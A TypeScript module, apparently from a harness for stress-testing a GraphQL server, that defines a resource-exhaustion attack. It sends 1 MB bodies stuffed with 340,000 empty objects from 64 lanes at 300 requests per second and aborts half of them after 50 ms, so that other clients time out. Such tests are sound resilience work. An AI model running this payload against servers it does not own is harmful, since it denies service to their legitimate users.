/**
 * Bodies of 1 MB, cheap to send and slow to parse: 340,000 empty objects beside a query that costs nothing. Every other client leaves
 * before it is answered.
 */
import { postUntil, type Attack } from '../attack.ts'

const BODY = `{"query":"{ __typename }","extensions":{"fill":[${'{},'.repeat(340_000)}{}]}}`
/** Milliseconds: long enough to send the body to a busy process. */
const LEAVES_AFTER_MS = 50

export const attacks: readonly Attack[] = [
  {
    title: 'large bodies, half of them aborted',
    role: 'start',
    run: (target, signal) =>
      postUntil(
        target,
        signal,
        { lanes: 64, perSecond: 300, leavesAfterMs: (index) => (index % 2 === 0 ? LEAVES_AFTER_MS : undefined) },
        () => BODY,
      ),
  },
]
